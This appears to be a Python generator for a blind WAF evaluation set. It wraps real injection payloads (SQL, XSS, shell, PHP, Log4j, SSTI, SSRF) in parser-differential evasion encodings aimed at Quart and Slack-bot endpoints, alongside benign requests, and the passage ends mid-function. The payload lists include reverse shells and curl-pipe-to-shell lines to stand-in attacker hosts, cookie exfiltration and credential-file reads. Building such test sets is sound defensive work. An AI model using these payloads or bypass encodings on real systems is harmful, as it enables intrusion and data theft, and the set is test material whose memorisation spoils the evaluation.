"""Blind set "eightysixth": a second bypass researcher's attacks on the places where the edge and a Python back end
(Quart services: JSON APIs, form posts, multipart uploads, a Slack bot reading chat commands) read one request
differently, with benign requests that use the same tricks innocently.

The angle: every payload is a real attack the back end would still execute or store, written so a rule engine that
reads the request one way may not see it. The tricks (one sub-family per technique and family, kebab-case
"<technique>-<family>"):

- dup-param: the same parameter twice, the payload first (werkzeug's MultiDict.get) or last (getlist()[-1]), in the
  query, a form, or the query of a form post (request.values puts the query first);
- hpp-split: the payload cut over repeated parameters the app joins ("".join(getlist), scopes joined by spaces);
- json-unicode: \\uXXXX escapes of the special characters, of every character, or of every other letter (keys too);
- json-dup-key: the same key twice (Python's json keeps the last), also spelled once with escapes ("n\\u0061me");
- json-nested: a JSON document inside a JSON string (settings, Slack interactions' payload, a query filter) that
  the app decodes again, once with its own second level of escapes;
- base64 and hex: values the app decodes (cursors, OAuth state, a preferences cookie, a context header, blobs);
- url-double: a second level of percent-encoding the app removes (next/redirect values, path ids, JSON fields);
- fullwidth: full-width and small-form characters that the app's NFKC normalisation turns into ASCII;
- multipart-field, multipart-filename: parts with unquoted names, lower-case headers, name* / filename* (RFC 2231),
  a duplicate part or a duplicate filename parameter, quoted boundaries, a JSON part;
- param-name: the payload as a query, form or JSON key, or inside brackets;
- slack-event, slack-command: "lookup user <payload>" in a Slack event (made-up signature) or a slash command, raw
  or escaped the way Slack escapes &, < and > (the bot unescapes);
- header, cookie: header names in odd case, duplicate headers told apart by case, tabs in values, quoted cookie
  values with octal escapes (werkzeug unslashes them), duplicate cookies, the payload as a cookie's name;
- path, raw-body (JSON sent as text/plain, without a type, with a BOM, as merge-patch, as a form; a type in capitals),
  charset (JSON in UTF-16 without a BOM, which Python's json.loads detects from the bytes), xml (character
  references, CDATA split, an internal entity, XXE), html-entity (references without semicolons, which
  html.unescape decodes), split-fields (the payload split over two fields the app joins), depth-padding (deep JSON,
  long arrays, hundreds of form fields, leading whitespace);
- hand-written per family: comment-concat (SQL comments and concatenation, shell quoting and globbing, PHP string
  calls, JavaScript property strings, Jinja attr/~, Log4j lookups), case-space, dot-segment (lfi), url-mangling
  (rfi), pollution (prototype and Python class pollution), overlong-utf8 (for a decoder behind that accepts them),
  utf7 (a legacy charset for stored XSS).

Families: sqli, xss, rce, php, lfi, rfi, java, generic (Python and Node.js code injection, deserialization,
pollution, SSRF), ssti (Jinja2, Mako, str.format, a few other engines).

Placements: query, form, json, cookie, header:<Name>, path, param-name, multipart-field, multipart-filename, xml,
hpp, raw-body. Routes: /api/users, /api/users/42, /admin/users/search (csrf_token), /oauth/token, /me/settings,
/slack/events, /slack/commands, /slack/interactions.

Benign: the same tricks as real clients use them (repeated parameters, JSON with unicode escapes of real names and
HTML-safe escapes, duplicate keys from merges, settings stored as JSON strings, base64 avatars, cursors and tokens,
hex hashes and colours, double-encoded redirect targets, full-width Japanese text, uploads with non-ASCII file names,
bracketed parameter names, Slack chat and slash commands, HTML entities in real text, XML profiles, deep settings).

Authorship and independence: written from general knowledge of each family and of how Python web stacks parse
requests, from the brief's titles alone; no WAF rule, engine source, ruleset test or public payload list was read.
Measured once on unchanged code. Deterministic (one seeded random source per function, no clock).
"""

from __future__ import annotations

import base64
import html
import json
import random
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

from .records import print_records

NAME = "eightysixth"
Rec = dict[str, Any]
Made = tuple[Rec, str, str]   # the request, its placement, the payload as placed

FAMILIES = ["sqli", "xss", "rce", "php", "lfi", "rfi", "java", "generic", "ssti"]

CORE: dict[str, list[str]] = {
    "sqli": [
        "' OR '1'='1",
        "' OR 1=1-- -",
        "1' UNION SELECT username, password_hash FROM users--",
        "1; DROP TABLE users--",
        "'; SELECT pg_sleep(5)--",
        "1 AND SLEEP(5)",
        "admin'--",
        "' UNION SELECT NULL,version()--",
        "1' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
        "' OR EXISTS(SELECT * FROM sqlite_master)--",
        "1) OR (1=1",
        "x' AND 1=CAST((SELECT current_user) AS int)--",
        "'||(SELECT password_hash FROM users LIMIT 1)||'",
        "1 ORDER BY 10--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1' AND ASCII(SUBSTRING((SELECT email FROM users LIMIT 1),1,1))>64--",
        "' OR 'x' LIKE 'x",
        "name,(SELECT CASE WHEN (1=1) THEN pg_sleep(3) END)",
        "' UNION ALL SELECT table_name FROM information_schema.tables--",
        "1;COPY (SELECT '') TO PROGRAM 'id'--",
        "' or sqlite_version()>'0",
        "-1' UNION SELECT load_file('/etc/passwd')-- -",
        "' AND updatexml(1,concat(0x3a,database()),1)-- -",
        "1'/**/OR/**/'a'='a",
    ],
    "xss": [
        "<script>alert(document.domain)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "\"><script>fetch('//attacker.example/?c='+document.cookie)</script>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "'-alert(1)-'",
        "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<video><source onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<marquee onstart=alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>go</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"//attacker.example/\">",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<img src=1 onerror=import('//attacker.example/x.js')>",
        "\" autofocus onfocus=\"alert(1)",
    ],
    "rce": [
        "; id",
        "| cat /etc/passwd",
        "$(whoami)",
        "`uname -a`",
        "&& curl http://attacker.example/x.sh | sh",
        "; wget -qO- http://attacker.example/s | bash",
        "|| nc -e /bin/sh 203.0.113.9 4444",
        "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "$(curl -s attacker.example/$(id -u))",
        "; python3 -c 'import os;os.system(\"id\")'",
        ";ping -c 3 203.0.113.9",
        "| nslookup $(hostname).attacker.example",
        "; rm -rf /tmp/*",
        "; perl -e 'system(\"id\")'",
        ";cat${IFS}/etc/shadow",
        "8.8.8.8; cat /proc/self/environ",
        "$(sleep 10)",
        "; chmod +x /tmp/x; /tmp/x",
        "| powershell -enc SQBFAFgA",
        "& type C:\\Windows\\win.ini",
        ";echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjkvNDQ0NCAwPiYx|base64 -d|sh",
        "a.png; convert a.png -write /var/www/x.php b.png",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "<?= shell_exec('id') ?>",
        "php://filter/convert.base64-encode/resource=config.php",
        "eval($_POST['x']);",
        "assert($_REQUEST['a'])",
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "phar://uploads/avatar.jpg/x.php",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "call_user_func('system','id')",
        "preg_replace('/x/e','system(\"id\")','x')",
        "passthru('cat /etc/passwd');",
        "include($_GET['p']);",
        "file_put_contents('s.php','<?php @eval($_POST[1]);')",
        "base64_decode('c3lzdGVt')('id')",
        "$_GET[0]($_GET[1])",
        "expect://id",
        "<?php echo file_get_contents('/etc/passwd'); ?>",
        "proc_open('id',[],$p)",
        "a:1:{i:0;O:6:\"Logger\":1:{s:4:\"file\";s:9:\"shell.php\";}}",
        "php://input",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "../../../etc/shadow",
        "/etc/passwd",
        "....//....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "../../../../var/log/nginx/access.log",
        "/proc/self/cmdline",
        "../../app/config.py",
        "../../../../root/.ssh/id_rsa",
        "file:///etc/passwd",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "../.env",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "/proc/1/root/etc/shadow",
        "..;/..;/..;/etc/passwd",
        "/home/app/.aws/credentials",
        "../../../../etc/hosts",
    ],
    "rfi": [
        "http://attacker.example/shell.txt?",
        "https://203.0.113.9/x.php",
        "ftp://attacker.example/inc.txt",
        "//attacker.example/payload.php",
        "\\\\attacker.example\\share\\x.php",
        "https://pastebin.com/raw/abc123",
        "http://203.0.113.9:8080/evil.py",
        "http://attacker.example/x.txt#",
        "ftps://attacker.example/mod.txt",
        "http://attacker.example@203.0.113.9/r.txt",
        "http://203.0.113.9/templates/base.html?",
        "https://attacker.example/widget.js",
    ],
    "java": [
        "${jndi:ldap://attacker.example/a}",
        "${jndi:rmi://203.0.113.9:1099/x}",
        "${${lower:j}ndi:ldap://attacker.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/x}",
        "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{''.getClass().forName('java.lang.Runtime')}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\","
        "\"autoCommit\":true}",
        "new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",\"id\"}).start()",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
        "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
        "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
    ],
    "generic": [
        "__import__('os').system('id')",
        "eval(compile('import os;os.system(\"id\")','x','exec'))",
        "exec(\"import subprocess;subprocess.call(['id'])\")",
        "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu",
        "require('child_process').exec('id')",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:6379/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "os.popen('id').read()",
        "getattr(__import__('subprocess'),'check_output')(['id'])",
        "__builtins__.__dict__['exec']('import os')",
        "this.constructor.constructor('return process')()",
        "!!python/object/apply:os.system [\"id\"]",
        "http://[::ffff:127.0.0.1]:8080/admin",
        "__proto__[isAdmin]=true",
        "http://metadata.google.internal/computeMetadata/v1/",
    ],
    "ssti": [
        "{{7*7}}",
        "{{config.items()}}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
        "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "${self.module.cache.util.os.system('id')}",
        "<%import os%>${os.popen('id').read()}",
        "{{ get_flashed_messages.__globals__['current_app'].config }}",
        "{{ url_for.__globals__['__builtins__']['eval'](\"__import__('os').popen('id').read()\") }}",
        "{user.__class__.__init__.__globals__}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
        "{{ joiner.__init__.__globals__.os.system('id') }}",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    ],
}

# the parameter the app feeds into the vulnerable sink, per family
NAMES: dict[str, list[str]] = {
    "sqli": ["q", "sort", "email", "user_id", "filter"],
    "xss": ["display_name", "bio", "title", "status_text", "name"],
    "rce": ["host", "filename", "domain", "target", "format"],
    "php": ["data", "template", "prefs", "snippet", "content"],
    "lfi": ["file", "path", "template", "lang", "doc"],
    "rfi": ["url", "page", "include", "template_url", "src"],
    "java": ["q", "lang", "trace", "name", "expr"],
    "generic": ["expr", "callback_url", "config", "webhook", "formula"],
    "ssti": ["greeting", "template", "subject", "signature", "display_name"],
}
BENIGN_VAL = {"sqli": "lee", "xss": "Ann Lee", "rce": "example.org", "php": "default", "lfi": "en.json",
              "rfi": "https://cdn.example.com/widgets/home.html", "java": "en", "generic": "1+1",
              "ssti": "Hello"}
SPLIT_FIELDS = {"sqli": ("sort", "order", " "), "xss": ("first_name", "last_name", " "),
                "rce": ("count", "host", " "), "php": ("header", "footer", ""), "lfi": ("dir", "file", ""),
                "rfi": ("base_url", "path", ""), "java": ("greeting", "name", " "),
                "generic": ("expr_left", "expr_right", ""), "ssti": ("greeting", "name", " ")}
HEADER4 = {"sqli": "X-Tenant-Id", "xss": "X-Forwarded-Host", "rce": "X-Correlation-Id", "php": "X-Api-Version",
           "lfi": "Accept-Language", "rfi": "X-Forwarded-Host", "java": "X-Api-Version",
           "generic": "X-Forwarded-Host", "ssti": "X-Forwarded-Host"}
ODD_CASE = {"X-Tenant-Id": "x-TENANT-id", "X-Forwarded-Host": "x-forwarded-HOST",
            "X-Correlation-Id": "X-CORRELATION-ID",
            "X-Api-Version": "x-api-version", "Accept-Language": "ACCEPT-language"}

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7", "ja-JP,ja;q=0.9,en;q=0.6",
         "es-ES,es;q=0.9,en;q=0.5", "en-GB,en;q=0.9"]
PAGES = ["users", "admin/users", "settings/profile", "team", "admin/users?page=2", "directory"]
SLACK_UA = "Slackbot 1.0 (+https://api.slack.com/robots)"
ID_CHARS = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"
SPECIALS = set("<>'\"&()/\\;:=|`${}[]%.,*!#-+@?~^")
HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"


def pct(s: str, safe: str = "") -> str:
    return urllib.parse.quote(s, safe=safe)


def qs(pairs: list[tuple[str, str]]) -> str:
    return "&".join(pct(k) + "=" + pct(v) for k, v in pairs)


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def b64url(s: str) -> str:
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def uesc(ch: str, upper: bool = False) -> str:
    units = ch.encode("utf-16-be")
    fmt = "\\u{:04X}" if upper else "\\u{:04x}"
    return "".join(fmt.format(int.from_bytes(units[i:i + 2], "big")) for i in range(0, len(units), 2))


def json_lit(s: str, mode: int) -> str:
    """A JSON string literal of s: mode 0 escapes the special characters, 1 every character, 2 the specials and
    every other letter (upper-case hex)."""
    out = []
    for i, ch in enumerate(s):
        if mode == 1 or (mode == 0 and ch in SPECIALS) or (mode == 2 and (ch in SPECIALS or (ch.isalpha() and i % 2))):
            out.append(uesc(ch, upper=mode == 2))
        else:
            out.append(json.dumps(ch)[1:-1])
    return '"' + "".join(out) + '"'


def fullwidth(s: str, mode: int) -> str:
    """Full-width forms (NFKC folds them back): mode 0 everything, 1 the specials only, 2 letters and digits only;
    mode 3 as 0 with the small forms of < > ( ) for those four."""
    small = {"<": "\ufe64", ">": "\ufe65", "(": "\ufe59", ")": "\ufe5a"}
    out = []
    for ch in s:
        if mode == 3 and ch in small:
            out.append(small[ch])
        elif "!" <= ch <= "~" and (mode in (0, 3) or (mode == 1 and not ch.isalnum()) or (mode == 2 and ch.isalnum())):
            out.append(chr(ord(ch) + 0xFEE0))
        elif ch == " " and mode in (0, 3):
            out.append("\u3000")
        else:
            out.append(ch)
    return "".join(out)


NAMED_NOSEMI = {"<": "&lt", ">": "&gt", "&": "&amp", '"': "&quot"}


def entities(s: str, mode: int) -> str:
    """HTML character references for the specials, as html.unescape reads them: mode 0 named or decimal without a
    semicolon, 1 hex without a semicolon, 2 zero-padded decimal with one, 3 decimal for every character. A
    semicolon is added only where the next character would otherwise extend the reference."""
    out = []
    for i, ch in enumerate(s):
        nxt = s[i + 1] if i + 1 < len(s) else ""
        if not (mode == 3 or (ch in SPECIALS and ch != " ")):
            out.append(ch)
        elif mode == 0 and ch in NAMED_NOSEMI:
            out.append(NAMED_NOSEMI[ch])   # the longest legacy name wins: "&ltscript" reads "<script"
        elif mode == 0:
            out.append(f"&#{ord(ch)}" + (";" if nxt.isdigit() else ""))
        elif mode == 1:
            out.append(f"&#x{ord(ch):x}" + (";" if nxt and nxt in "0123456789abcdefABCDEF" else ""))
        elif mode == 2:
            out.append(f"&#{ord(ch):07d};")
        else:
            out.append(f"&#{ord(ch)};")
    text = "".join(out)
    assert html.unescape(text) == s, (s, text)
    return text


def slack_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def cookie_quote(s: str, octal_all: bool) -> str:
    """A quoted cookie value as Python's http.cookies writes it (werkzeug reads the escapes back)."""
    out = []
    for ch in s:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ch in ";, " or (octal_all and ch in "<>()'=&|$`{}[]/"):
            out.append(f"\\{ord(ch):03o}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def xml_esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def xml_ncr(s: str) -> str:
    return "".join(f"&#x{ord(ch):x};" if ch in SPECIALS or (ch.isalpha() and i % 2) else ch
                   for i, ch in enumerate(s))


def split3(p: str) -> list[str]:
    n = len(p)
    return [p[: n // 3], p[n // 3: 2 * n // 3], p[2 * n // 3:]]


def split2(p: str) -> tuple[str, str]:
    """At the space nearest the middle (the app joins the two with a space), or in the middle."""
    mid = len(p) // 2
    spaces = [i for i, ch in enumerate(p) if ch == " " and 0 < i < len(p) - 1]
    if spaces:
        i = min(spaces, key=lambda j: abs(j - mid))
        return p[:i], p[i + 1:]
    return p[:mid], p[mid:]


def split_words(p: str, parts: int) -> list[str]:
    words = p.split(" ")
    if len(words) < parts:
        return words
    size = -(-len(words) // parts)
    return [" ".join(words[i:i + size]) for i in range(0, len(words), size)]


class Ctx:
    """The seeded random pieces of one set and the request builders."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def pick(self, seq: list[str]) -> str:
        return self.rng.choice(seq)

    def tok(self, nbytes: int = 24) -> str:
        return base64.urlsafe_b64encode(self.rng.randbytes(nbytes)).decode().rstrip("=")

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def sid(self, prefix: str, n: int = 9) -> str:
        return prefix + "".join(self.rng.choice(ID_CHARS) for _ in range(n))

    def headers(self, accept: str = "application/json", ctype: str | None = None, cookie: bool = True,
                path: str | None = None) -> dict[str, str]:
        h = {"User-Agent": self.pick(BROWSERS), "Accept": accept, "Accept-Language": self.pick(LANGS),
             "Referer": "https://app.example.com/" + (path or self.pick(PAGES))}
        if ctype is not None:
            h["Content-Type"] = ctype
        if cookie:
            h["Cookie"] = f"session={self.tok()}; consent=necessary%2Canalytics"
        return h

    def get(self, uri: str, headers: dict[str, str] | None = None) -> Rec:
        return {"method": "GET", "uri": uri, "body": "", "headers": headers or self.headers()}

    def send(self, method: str, uri: str, body: str, ctype: str | None, accept: str = "application/json") -> Rec:
        return {"method": method, "uri": uri, "body": body, "headers": self.headers(accept, ctype)}

    def form(self, uri: str, fields: list[tuple[str, str]], method: str = "POST") -> Rec:
        return self.send(method, uri, urllib.parse.urlencode(fields), "application/x-www-form-urlencoded", HTML)

    def json(self, uri: str, doc: Any, method: str = "POST") -> Rec:
        return self.send(method, uri, json.dumps(doc, ensure_ascii=False), "application/json")

    def json_text(self, uri: str, text: str, method: str = "POST") -> Rec:
        return self.send(method, uri, text, "application/json")

    def boundary(self) -> str:
        return "----WebKitFormBoundary" + self.tok(12)[:16]

    def multipart(self, uri: str, parts: list[tuple[str, str]], boundary: str | None = None,
                  ctype: str | None = None) -> Rec:
        b = boundary or self.boundary()
        body = "".join(f"--{b}\r\n{hdrs}\r\n\r\n{val}\r\n" for hdrs, val in parts) + f"--{b}--\r\n"
        return self.send("POST", uri, body, ctype or f"multipart/form-data; boundary={b}", HTML)

    def slack_headers(self, ctype: str) -> dict[str, str]:
        return {"User-Agent": SLACK_UA, "Accept": "*/*", "Content-Type": ctype,
                "X-Slack-Request-Timestamp": str(1719000000 + self.rng.randrange(86400)),
                "X-Slack-Signature": "v0=" + self.hexs(64)}

    def slack_event(self, text_lit: str, kind: str = "message") -> Rec:
        """An Events API callback whose event.text is the JSON literal text_lit, written as given."""
        ts = f"{1719000000 + self.rng.randrange(86400)}.{self.rng.randrange(1000000):06d}"
        event = {"type": kind, "user": self.sid("U"), "text": "@@TEXT@@", "ts": ts, "channel": self.sid("C"),
                 "event_ts": ts}
        if kind == "message":
            event["channel_type"] = "channel"
        env = {"token": self.tok(18), "team_id": self.sid("T"), "api_app_id": self.sid("A"), "event": event,
               "type": "event_callback", "event_id": self.sid("Ev", 10), "event_time": 1719000000 +
               self.rng.randrange(86400)}
        body = json.dumps(env, ensure_ascii=False).replace('"@@TEXT@@"', text_lit)
        return {"method": "POST", "uri": "/slack/events", "body": body, "headers": self.slack_headers(
            "application/json")}

    def slack_command(self, text: str, command: str = "/lookup") -> Rec:
        team = self.sid("T")
        fields = [("token", self.tok(18)), ("team_id", team), ("team_domain", "acme"),
                  ("channel_id", self.sid("C")), ("channel_name", "helpdesk"), ("user_id", self.sid("U")),
                  ("user_name", "ann.lee"), ("command", command), ("text", text), ("api_app_id", self.sid("A")),
                  ("is_enterprise_install", "false"),
                  ("response_url", f"https://hooks.slack.com/commands/{team}/{self.rng.randrange(10**12)}/"
                                   f"{self.tok(18)}"),
                  ("trigger_id", f"{self.rng.randrange(10**12)}.{self.rng.randrange(10**12)}.{self.hexs(32)}")]
        return {"method": "POST", "uri": "/slack/commands", "body": urllib.parse.urlencode(fields),
                "headers": self.slack_headers("application/x-www-form-urlencoded")}

    def slack_interaction(self, doc: Any) -> Rec:
        body = urllib.parse.urlencode([("payload", json.dumps(doc, ensure_ascii=False))])
        return {"method": "POST", "uri": "/slack/interactions", "body": body,
                "headers": self.slack_headers("application/x-www-form-urlencoded")}


# ----------------------------------------------------------------------------------------------------------------
# the techniques: each makes the v-th of its variants for payload p of family fam


def t_dup_param(c: Ctx, fam: str, p: str, v: int) -> Made:
    name, ok = NAMES[fam][v % 5], BENIGN_VAL[fam]
    v %= 5
    if v == 0:
        return c.get("/api/users?" + qs([(name, p), (name, ok), ("page", "1")])), "query", p
    if v == 1:
        return c.get("/api/users?" + qs([("page", "2"), (name, ok), (name, p)])), "query", p
    if v == 2:
        return c.form("/admin/users/search", [("csrf_token", c.tok()), (name, p), (name, ok)]), "form", p
    if v == 3:
        return c.form("/me/settings", [("csrf_token", c.tok()), (name, ok), (name, p)]), "form", p
    rec = c.form("/admin/users/search?" + qs([(name, p)]), [("csrf_token", c.tok()), (name, ok)])
    return rec, "query", p


def t_hpp_split(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    chunks = split3(p)
    placed = json.dumps(chunks)
    v %= 5
    if v == 0:
        return c.get("/api/users?" + qs([(name, x) for x in chunks])), "hpp", placed
    if v == 1:
        return c.form("/admin/users/search", [("csrf_token", c.tok())] + [(name, x) for x in chunks]), "hpp", placed
    if v == 2:
        rec = c.form("/admin/users/search?" + qs([(name, chunks[0])]),
                     [("csrf_token", c.tok()), (name, chunks[1]), (name, chunks[2])])
        return rec, "hpp", placed
    if v == 3:
        words = split_words(p, 3)
        fields = [("grant_type", "client_credentials"), ("client_id", "reporting-" + c.hexs(6))]
        return c.form("/oauth/token", fields + [("scope", w) for w in words]), "hpp", json.dumps(words)
    pairs = [(name, chunks[0]), ("page", "1"), (name, chunks[1]), ("per_page", "50"), (name, chunks[2])]
    return c.get("/api/users?" + qs(pairs)), "hpp", placed


def t_json_unicode(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    mode = v % 3
    lit = json_lit(p, mode)
    placed = lit[1:-1]
    v %= 5
    if v == 0:
        body = f'{{"name": "Ann Lee", "email": "ann.lee@example.org", "{name}": {lit}}}'
        return c.json_text("/api/users", body), "json", placed
    if v == 1:
        return c.json_text("/api/users/42", f'{{"{name}": {lit}}}', "PATCH"), "json", placed
    if v == 2:
        return c.slack_event(json_lit("lookup user " + p, mode)), "json", placed
    if v == 3:
        body = f'{{"name": "Ann Lee", "profile": {{"{name}": {lit}, "timezone": "Europe/Berlin"}}}}'
        return c.json_text("/api/users", body), "json", placed
    key = "".join(uesc(ch) for ch in name)
    return c.json_text("/api/users/42", f'{{"{key}": {lit}}}', "PATCH"), "json", placed


def t_json_dup_key(c: Ctx, fam: str, p: str, v: int) -> Made:
    name, ok = NAMES[fam][v % 5], json.dumps(BENIGN_VAL[fam])
    lit = json.dumps(p)
    v %= 5
    if v == 0:
        body = f'{{"email": "ann.lee@example.org", "{name}": {ok}, "{name}": {lit}}}'
        return c.json_text("/api/users", body), "json", p
    if v == 1:
        key = "".join(uesc(ch) if i % 2 == 0 else ch for i, ch in enumerate(name))
        return c.json_text("/api/users/42", f'{{"{name}": {ok}, "{key}": {lit}}}', "PATCH"), "json", p
    if v == 2:
        body = f'{{"name": "Ann Lee", "profile": {{"{name}": {ok}, "locale": "en", "{name}": {lit}}}}}'
        return c.json_text("/api/users", body), "json", p
    if v == 3:
        rec = c.slack_event('"@@DUP@@"')
        rec["body"] = rec["body"].replace('"@@DUP@@"', '"lookup user ann.lee", "text": ' + json.dumps(
            "lookup user " + p))
        return rec, "json", p
    body = f'{{"{name}": {ok}, "email": "ann.lee@example.org", "{name}": {ok}, "{name}": {lit}}}'
    return c.json_text("/api/users", body), "json", p


def t_json_nested(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    v %= 5
    if v == 0:
        inner = json.dumps({"theme": "dark", name: p})
        return c.json("/api/users", {"name": "Ann Lee", "settings": inner}), "json", inner
    if v == 1:
        inner = f'{{"theme": "dark", "{name}": {json_lit(p, 1)}}}'
        return c.json("/api/users", {"name": "Ann Lee", "settings": inner}), "json", inner
    if v == 2:
        inner = json.dumps([{"key": name, "value": p}, {"key": "locale", "value": "en"}])
        return c.json("/api/users/42", {"prefs": inner}, "PATCH"), "json", inner
    if v == 3:
        doc = {"type": "block_actions", "user": {"id": c.sid("U"), "username": "ann.lee"},
               "api_app_id": c.sid("A"), "token": c.tok(18), "trigger_id": f"{c.rng.randrange(10**12)}.1",
               "team": {"id": c.sid("T"), "domain": "acme"}, "channel": {"id": c.sid("C"), "name": "helpdesk"},
               "actions": [{"action_id": "lookup_user", "block_id": "b1", "type": "plain_text_input", "value": p}]}
        return c.slack_interaction(doc), "form", json.dumps(doc["actions"])
    inner = f'{{"{name}": {json_lit(p, 0)}, "active": true}}'
    return c.get("/api/users?" + qs([("filter", inner), ("page", "1")])), "query", inner


def t_base64(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    v %= 5
    if v == 0:
        val = b64(json.dumps({"after": p, "limit": 20}))
        return c.get("/api/users?" + qs([("cursor", val), ("per_page", "20")])), "query", val
    if v == 1:
        val = b64(p)
        return c.json("/api/users", {"name": "Ann Lee", name + "_b64": val}), "json", val
    if v == 2:
        val = b64url(json.dumps({"lang": "en", name: p}))
        rec = c.get("/api/users?page=1")
        rec["headers"]["Cookie"] = f"session={c.tok()}; prefs={val}"
        return rec, "cookie", val
    if v == 3:
        val = b64url(json.dumps({"next": p, "nonce": c.hexs(16)}))
        fields = [("grant_type", "authorization_code"), ("code", c.tok(20)),
                  ("redirect_uri", "https://app.example.com/oauth/callback"), ("client_id", "web-" + c.hexs(8)),
                  ("code_verifier", c.tok(32)), ("state", val)]
        return c.form("/oauth/token", fields), "form", val
    val = b64(json.dumps({"tenant": "acme", name: p}))
    rec = c.get("/api/users/42")
    rec["headers"]["X-Request-Context"] = val
    return rec, "header:X-Request-Context", val


def t_hex(c: Ctx, fam: str, p: str, v: int) -> Made:
    h = p.encode().hex()
    v %= 3
    if v == 0:
        return c.get("/api/users?" + qs([("data", h), ("page", "1")])), "query", h
    if v == 1:
        return c.json("/api/users", {"name": "Ann Lee", "blob_hex": "0x" + h.upper()}), "json", "0x" + h.upper()
    rec = c.get("/api/users?page=3")
    rec["headers"]["Cookie"] = f"session={c.tok()}; prefs_hex={h}"
    return rec, "cookie", h


def t_url_double(c: Ctx, fam: str, p: str, v: int) -> Made:
    name = NAMES[fam][v % 5]
    once = pct(p)
    twice = pct(once)
    v %= 5
    if v == 0:
